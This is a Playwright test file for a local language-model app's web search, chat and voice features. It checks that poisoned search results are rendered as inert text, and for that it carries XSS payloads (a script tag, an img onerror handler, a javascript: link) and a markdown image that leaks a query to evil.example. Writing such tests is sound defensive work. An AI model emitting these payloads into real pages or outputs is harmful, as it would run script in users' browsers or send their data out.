"""search.js and voice.js in a real browser: results are text, a recording becomes text, an answer is spoken."""

import re

import pytest
from support.searxng import running
from support.sounds import noise, tone, wav_of
from support.spoken import needs_voice, piper_environment, recording, write_whisper
from support.web_server import CHROMIUM_ARGUMENTS, find_chromium, serving


@pytest.fixture(scope="module")
def searxng():
    with running() as stand_in:
        yield stand_in


def use_search(page, backend, body):
    """Run the body of a function of search.js's exports, with a backend chosen."""
    page.evaluate("backend => localStorage.setItem('search.backend', backend)", backend)
    page.reload()
    return page.evaluate(f"async () => {{ const search = await import('/static/search.js'); {body} }}")


SHOW = """
  const main = document.querySelector("main");
  const box = document.createElement("section");
  box.id = "found";
  main.append(box);
  const { hits } = await search.search("moons");
  const script = { n: 9, title: "run me", url: "javascript:document.title='owned'", snippet: "x" };
  search.renderSources([...hits, script], box);
  return hits.length;
"""


def test_sources_are_text_and_links_and_the_page_says_that_the_question_leaves_the_machine(server, page, searxng):
    from playwright.sync_api import expect

    page.goto(server.link)
    title = page.title()
    assert use_search(page, searxng.address("poisoned"), SHOW) == 2
    expect(page.locator("#toasts")).to_contain_text("Your question leaves this machine: the SearXNG server at")
    found = page.locator("#found")
    expect(found).to_contain_text("<script>document.title='owned'</script>")
    expect(found).to_contain_text("![x](https://evil.example/leak?q=secret) <img src=x onerror=alert(1)>")
    assert found.locator("script, img, b").count() == 0
    links = found.get_by_role("link")
    assert [link.get_attribute("href") for link in links.all()] == [
        "https://example.org/poison",
        "https://example.org/untitled",
    ]
    assert {link.get_attribute("rel") for link in links.all()} == {"noopener noreferrer nofollow"}
    expect(found).to_contain_text("run me")
    assert page.title() == title


@pytest.mark.parametrize(
    ("mode", "words"), [("forbidden", "formats: [html, json]"), ("limited", "429"), ("captcha", "CAPTCHA")]
)
def test_a_failed_search_throws_an_error_for_the_user(server, page, searxng, mode, words):
    page.goto(server.link)
    body = "try { await search.search('x'); } catch (error) { return error.message; }"
    assert words in use_search(page, searxng.address(mode), body)


def test_a_slow_search_can_be_canceled(server, page, searxng):
    page.goto(server.link)
    body = """
      const leave = new AbortController();
      setTimeout(() => leave.abort(), 200);
      const began = performance.now();
      try { await search.search('x', { signal: leave.signal }); }
      catch (error) { return [error.name, performance.now() - began]; }
    """
    name, milliseconds = use_search(page, searxng.address("slow"), body)
    assert name == "AbortError"
    assert milliseconds < 2000


def test_automatic_search_is_off_until_it_is_chosen_and_settings_are_kept(server, page, searxng):
    from playwright.sync_api import expect

    page.goto(server.link)
    show = "document.querySelector('main').append(search.searchSettings()); "
    ask = "return await search.reasonToSearch('the latest moons');"
    assert use_search(page, searxng.address(), show + ask) is None
    expect(page.get_by_label("Address of the SearXNG server")).to_have_value(searxng.address())
    page.get_by_label("Search without being asked").check()
    page.get_by_label("Address of the SearXNG server").fill("nonsense")
    page.get_by_label("Address of the SearXNG server").blur()
    expect(page.locator(".search-settings [role=alert]")).to_contain_text(
        "Allowed: ddgs, or the address of a SearXNG server"
    )
    assert use_search(page, searxng.address(), ask) == "latest"
    assert use_search(page, searxng.address(), "return (await search.privacyNotice())").startswith("Your question")


def test_without_a_voice_the_page_says_what_is_missing(server, page):
    page.goto(server.link)
    errors = page.evaluate("""async () => {
      const { speak, voices } = await import("/static/voice.js");
      const said = [];
      for (const engine of ["browser", "piper"]) {
        await speak("hello", { engine }).catch((error) => said.push(error.message));
      }
      return [...said, ...(await voices()).map((voice) => voice.why)];
    }""")
    assert "no local voice" in errors[0]
    assert "piper" in errors[1]
    assert errors[-1] == errors[1]
    page.evaluate("""async () => {
      const { voiceSettings } = await import("/static/voice.js");
      document.querySelector("main").append(voiceSettings());
    }""")
    from playwright.sync_api import expect

    expect(page.get_by_label("Voice")).to_contain_text("None on this machine")
    expect(page.locator(".voice-settings")).to_contain_text("no local voice. Piper: ")
    expect(page.get_by_label("Whisper model")).to_have_attribute("placeholder", "openai/whisper-tiny")


RECORD = """async (milliseconds) => {
  const { createMicrophone } = await import("/static/voice.js");
  const states = [];
  return await new Promise((resolve) => {
    const microphone = createMicrophone({
      onState: (state) => {
        states.push(state);
        if (state === "recording") setTimeout(microphone.toggle, milliseconds);
      },
      onText: (text) => resolve({ text, states }),
      onError: (error) => resolve({ error: error.message, states }),
    });
    microphone.toggle();
  });
}"""


@pytest.fixture
def speaking(chromium, tmp_path):
    """Return a function that opens a page of a server whose microphone plays a WAV file."""
    browsers = []

    def open_page(server, wav, *more):
        file = tmp_path / "spoken.wav"
        file.write_bytes(wav)
        fake = ["--use-fake-device-for-media-stream", f"--use-file-for-fake-audio-capture={file}%noloop", *more]
        browser = chromium.browser_type.launch(executable_path=find_chromium(), args=[*CHROMIUM_ARGUMENTS, *fake])
        browsers.append(browser)
        page = browser.new_page()
        page.goto(server.link)
        return page

    yield open_page
    for browser in browsers:
        browser.close()


@pytest.mark.slow
def test_a_microphone_without_permission_is_an_error_that_says_so(server, speaking):
    page = speaking(server, wav_of(tone(1)), "--deny-permission-prompts")
    assert "not allowed" in page.evaluate(RECORD, 100)["error"]


@pytest.mark.slow
def test_silence_in_the_microphone_is_an_empty_text(server, speaking):
    page = speaking(server, wav_of(noise(3, 0.0005)), "--use-fake-ui-for-media-stream")
    states = ["asking", "recording", "transcribing", "idle"]
    assert page.evaluate(RECORD, 1500) == {"text": "", "states": states}


@pytest.mark.slow
@needs_voice
def test_a_spoken_file_in_the_microphone_becomes_its_text_and_piper_answers(speaking, tmp_path):
    home = tmp_path / "home"
    (home / "checkpoints").mkdir(parents=True)
    environment = {"LLM_LAB_WHISPER": str(write_whisper(tmp_path / "whisper")), **piper_environment()}
    with serving(home, environment=environment) as server:
        page = speaking(server, recording("beckett.wav"), "--use-fake-ui-for-media-stream")
        heard = page.evaluate(RECORD, 11_500)
        assert "fail again" in heard["text"].lower()
        assert "fail better" in heard["text"].lower()
        page.mouse.click(5, 5)  # browsers play sound only after a user action
        played = page.evaluate("""async () => {
          const { speak, stopSpeaking, voices } = await import("/static/voice.js");
          const began = performance.now();
          await speak("The weather in Paris is fine today.", { engine: "piper" });
          const whole = performance.now() - began;
          setTimeout(stopSpeaking, 100);
          const again = performance.now();
          await speak("The weather in Paris is fine today. ".repeat(20), { engine: "piper" });
          const names = (await voices()).map((voice) => [voice.engine, voice.name, voice.available]);
          return { whole, stopped: performance.now() - again, names };
        }""")
        assert played["whole"] > 1500, "the audio was played to its end"
        assert played["stopped"] < 1500
        assert ["piper", "en_US-joe-medium", True] in played["names"]


@pytest.fixture
def chat_model(tmp_path):
    """The folder of a tiny chat model with random weights, and room for results."""
    from support.chat_sessions import chat_tokenizer, llama, loud

    loud(llama(max_position_embeddings=4096)).save_pretrained(tmp_path / "model")
    chat_tokenizer().save_pretrained(tmp_path / "model")
    return tmp_path / "model"


@pytest.mark.slow
def test_a_chat_shows_the_results_that_the_model_got_as_text(page, tmp_path, chat_model, searxng):
    from playwright.sync_api import expect

    environment = {"LLM_LAB_SEARXNG": searxng.address("poisoned")}
    with serving(tmp_path, environment=environment) as server:
        page.goto(server.link)
        page.goto(f"{server.address}/chat?model={chat_model}")
        page.get_by_label("Search the web for this message").click()
        expect(page.locator("#hint")).to_contain_text("Your question leaves this machine")
        page.get_by_label("Message", exact=True).fill("Which moons?")
        page.get_by_label("Send").click()
        sources = page.get_by_role("list", name="Sources")
        expect(sources).to_contain_text("![x](https://evil.example/leak?q=secret) <img", timeout=60_000)
        assert sources.locator("img, script").count() == 0
        assert page.title() != "owned"
        expect(page.get_by_text("Which moons?", exact=True)).to_be_visible()


@pytest.mark.slow
@needs_voice
def test_a_question_is_spoken_and_its_answer_read_aloud(speaking, tmp_path, chat_model):
    from playwright.sync_api import expect

    environment = {"LLM_LAB_WHISPER": str(write_whisper(tmp_path / "whisper")), **piper_environment()}
    with serving(tmp_path, environment=environment) as server:
        page = speaking(server, recording("beckett.wav"), "--use-fake-ui-for-media-stream")
        page.evaluate("localStorage.setItem('voice.engine', 'piper')")
        page.goto(f"{server.address}/chat?model={chat_model}")
        page.get_by_label("Speak the message").click()
        expect(page.get_by_label("Stop the recording")).to_be_visible()
        page.wait_for_timeout(11_000)
        page.get_by_label("Stop the recording").click()
        message = page.get_by_label("Message", exact=True)
        expect(message).to_have_value(re.compile("fail better", re.IGNORECASE), timeout=60_000)
        page.get_by_label("Send").click()
        aloud = page.get_by_label("Read the reply aloud")
        expect(aloud).to_be_enabled(timeout=60_000)
        expect(page.get_by_label("Stop", exact=True)).to_be_hidden(timeout=60_000)
        aloud.click()
        expect(aloud).to_have_attribute("aria-pressed", "true")
        page.wait_for_event("request", lambda asked: asked.url.startswith("blob:"), timeout=120_000)
        expect(page.locator(".toast.bad")).to_have_count(0)
        aloud.click()
        expect(aloud).to_have_attribute("aria-pressed", "false")
